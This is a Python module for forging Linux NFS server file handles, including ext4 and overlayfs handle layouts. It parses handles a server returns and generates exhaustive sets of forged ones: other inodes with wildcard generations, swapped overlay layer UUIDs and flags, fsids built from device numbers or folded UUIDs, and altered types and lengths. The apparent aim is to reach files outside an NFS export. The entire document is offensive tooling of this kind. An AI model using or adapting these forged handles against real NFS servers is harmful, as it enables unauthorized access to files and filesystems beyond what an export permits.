"""The Linux server's file handles, and how to forge them. The forms are measured: fs/nfsd/nfsfh.h, fs/overlayfs/overlayfs.h.

    handle    version 1, auth 0, fsid type, fileid type | fsid | fileid
    ext4      fileid type 1: inode, generation (both little endian); 2: the same, then the parent's. Generation 0 fits any
    overlay   fileid type 0xf8: 3 bytes padding, then 0, 0xfb, length, flags, inner type, uuid of the layer, inner fileid
"""

import collections
import itertools
import os
import struct

ROOT, INODE, INODE_AND_PARENT, OVERLAY, OVERLAY_OLD = 0, 1, 2, 0xf8, 0xfb
FSID_BYTES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
BY_DEVICE, BY_NUMBER, BY_DEVICE_LONG, BY_ENCODED_DEVICE, BY_UUID4_INODE, BY_UUID8, BY_UUID16, BY_UUID16_INODE = range(8)
UPPER_FLAG = 4
OTHER_ENDIAN_FLAGS = (1, 2, 0xff)
OVERLAY_HEAD = 24
MOST_BYTES, MOST_BYTES_4 = 64, 128
DEVICE_MAJORS = (0, 7, 8, 253, 254, 259)
DEVICE_MINORS = range(64)
FILEID_TYPES = (0, 1, 2, 3, 4, 6, 0x4d, 0x4e, 0x4f, 0x51, 0x52, 0x61, 0x62, 0x71, 0x81, 0x82, 0x97, 0xf1, 0xf7, 0xf8, 0xfb, 0xfe, 0xff)

Handle = collections.namedtuple("Handle", "fsid_type fsid fileid_type fileid")


def parse(data):
    """None if it is no handle of a known form."""
    if len(data) < 4 or data[0] != 1 or data[2] not in FSID_BYTES:
        return None
    end = 4 + FSID_BYTES[data[2]]
    return Handle(data[2], data[4:end], data[3], data[end:])


def pack(handle):
    return (bytes((1, 0, handle.fsid_type, handle.fileid_type)) + handle.fsid + handle.fileid)[:MOST_BYTES]


def inode_fileid(inode, generation=0):
    return struct.pack("<II", inode, generation)


class Layer:
    """One filesystem behind a handle: the exported one, or one of the layers of an overlay."""

    def __init__(self, handle):
        self.handle = handle
        self.overlay = handle.fileid_type in (OVERLAY, OVERLAY_OLD)
        fileid = handle.fileid
        self.head, self.inner = (fileid[:OVERLAY_HEAD], fileid[OVERLAY_HEAD:]) if self.overlay else (b"", fileid)
        self.inode, self.generation = struct.unpack("<II", self.inner[:8])

    def key(self):
        """What is the same for all objects of this layer."""
        return (self.handle.fileid_type, self.head)

    def uuid(self):
        return self.head[8:24]

    def with_fileid(self, fileid):
        return pack(self.handle._replace(fileid=self.head + fileid))

    def with_inode(self, inode, generation=0):
        return self.with_fileid(inode_fileid(inode, generation))

    def with_head(self, flags=None, uuid=None, inner_type=None):
        head = bytearray(self.head)
        head[6] = self.head[6] if flags is None else flags
        head[7] = self.head[7] if inner_type is None else inner_type
        head[8:24] = self.uuid() if uuid is None else uuid
        return Layer(self.handle._replace(fileid=bytes(head) + self.inner))


def layers_of(handles):
    """One Layer for each kind of handle that the server gave us; the handle of the export's root names no inode."""
    found = {}
    for data in handles:
        handle = parse(data)
        if handle and handle.fileid_type in (INODE, INODE_AND_PARENT, OVERLAY, OVERLAY_OLD):
            layer = Layer(handle)
            found.setdefault(layer.key(), layer)
    return list(found.values())


def other_inodes(layers, inodes):
    """Every inode of every layer, with the generation that fits all, with our own and with a random one."""
    for layer in layers:
        for generation in (0, layer.generation, struct.unpack("<I", os.urandom(4))[0]):
            for inode in inodes:
                yield layer.with_inode(inode, generation)


def swapped_layers(layers, inodes):
    """The upper layer's flag toggled, and each layer's uuid under each layer's flags."""
    for layer in layers:
        if layer.overlay:
            uuids = {other.uuid() for other in layers if other.overlay}
            toggled = layer.head[6] ^ UPPER_FLAG
            for uuid in uuids:
                swapped = layer.with_head(flags=toggled, uuid=uuid)
                yield from (swapped.with_inode(inode) for inode in inodes)


def other_heads(layers, inodes):
    """Overlay handles with uuids, flags and inner types that the server never gave."""
    for layer in layers:
        if not layer.overlay:
            continue
        flipped = bytes(byte ^ 0xff for byte in layer.uuid())
        forged = [layer.with_head(uuid=uuid) for uuid in (bytes(16), flipped, os.urandom(16), layer.uuid()[::-1])]
        forged += [layer.with_head(flags=layer.head[6] | flags) for flags in OTHER_ENDIAN_FLAGS]
        forged += [layer.with_head(inner_type=kind) for kind in FILEID_TYPES]
        for changed, inode in itertools.product(forged, inodes):
            yield changed.with_inode(inode)


def other_forms(layers, inodes):
    """As if the export were no overlay, or were one."""
    for layer in layers:
        plain = layer.handle._replace(fileid_type=INODE)
        for inode in inodes:
            yield pack(plain._replace(fileid=inode_fileid(inode)))
            yield pack(plain._replace(fileid_type=INODE_AND_PARENT, fileid=inode_fileid(inode) + inode_fileid(2)))
            yield pack(plain._replace(fileid_type=OVERLAY, fileid=overlay_fileid(UPPER_FLAG, bytes(16), inode)))
            yield pack(plain._replace(fileid_type=OVERLAY_OLD, fileid=overlay_fileid(UPPER_FLAG, layer.uuid(), inode)[3:]))


def overlay_fileid(flags, uuid, inode):
    return bytes((0, 0, 0, 0, 0xfb, 29, flags, INODE)) + uuid.ljust(16, b"\0") + inode_fileid(inode)


def all_types(layers):
    """Each pair of types, over our own bytes and over none."""
    layer = layers[0]
    for fsid_type, fileid_type in itertools.product(range(10), FILEID_TYPES):
        size = FSID_BYTES.get(fsid_type, 4)
        for fileid in (layer.handle.fileid, inode_fileid(2), inode_fileid(2) + bytes(16), b""):
            yield pack(Handle(fsid_type, layer.handle.fsid.ljust(size, b"\0"), fileid_type, fileid))


def fileids_to_try(layers, inodes):
    """For an export of which nothing is known."""
    yield ROOT, b""
    for inode in inodes:
        yield INODE, inode_fileid(inode)
    for layer in layers:
        if layer.overlay:
            yield from ((OVERLAY, layer.head + inode_fileid(inode)) for inode in inodes)


def other_fsids(layers, numbers, inodes):
    fileids = list(fileids_to_try(layers, inodes))
    for number in numbers:
        for encoded in {struct.pack("<I", number), struct.pack(">I", number)}:
            for fileid_type, fileid in fileids:
                yield pack(Handle(BY_NUMBER, encoded, fileid_type, fileid))


def devices():
    """fsids that name a filesystem by its device and the exported directory's inode (2: the root of an ext4)."""
    for major, minor in itertools.product(DEVICE_MAJORS, DEVICE_MINORS):
        inode = struct.pack("<I", 2)
        yield BY_DEVICE, struct.pack(">HH", major, minor) + inode
        yield BY_DEVICE_LONG, struct.pack(">II", major, minor) + inode
        yield BY_ENCODED_DEVICE, struct.pack("<I", (major << 8) | minor) + inode


def uuids(layers):
    """fsids that name a filesystem by a uuid, or by one folded to half or a quarter; from the uuids that we know."""
    for uuid in {layer.uuid() for layer in layers if layer.overlay} | {bytes(16)}:
        half = bytes(a ^ b for a, b in zip(uuid[:8], uuid[8:]))
        quarter = bytes(a ^ b for a, b in zip(half[:4], half[4:]))
        yield BY_UUID8, half
        yield BY_UUID16, uuid
        for inode in (1, 2, 11, 12, 13):
            yield BY_UUID4_INODE, struct.pack("<I", inode) + quarter
            yield BY_UUID16_INODE, struct.pack("<Q", inode) + uuid


def other_filesystems(layers):
    for fsid_type, fsid in itertools.chain(devices(), uuids(layers)):
        for fileid_type, fileid in ((ROOT, b""), (INODE, inode_fileid(2))):
            yield pack(Handle(fsid_type, fsid, fileid_type, fileid))


def other_lengths(layers, most):
    """Our own, cut and filled up to every length, and an overlay's inner length apart from its true one."""
    for layer in layers:
        whole = layer.with_inode(2)
        for size in range(most + 1):
            yield whole[:size]
            yield whole.ljust(size, b"\0")
            yield (whole + os.urandom(most))[:max(size, len(whole))]
        if layer.overlay:
            for size in range(256):
                yield pack(layer.handle._replace(fileid=layer.head[:5] + bytes((size,)) + layer.head[6:] + layer.inner))


FEW_INODES = (2, 11, 12, 13, 14, 15)


def forged(layers, inodes, numbers, most=MOST_BYTES):
    """(what they are, handles) of every sort."""
    few = [inode for inode in inodes if inode <= 32] or list(inodes)[:32]
    numbers = [number for number in numbers if struct.pack("<I", number) != layers[0].handle.fsid]
    return [
        ("other inodes", other_inodes(layers, inodes)),
        ("swapped layers", swapped_layers(layers, inodes)),
        ("other uuids and flags", other_heads(layers, few)),
        ("other forms", other_forms(layers, few)),
        ("all types", all_types(layers)),
        ("other lengths", other_lengths(layers, most)),
        ("other numbers of exports", other_fsids(layers, numbers, FEW_INODES)),
        ("other filesystems", other_filesystems(layers)),
    ]
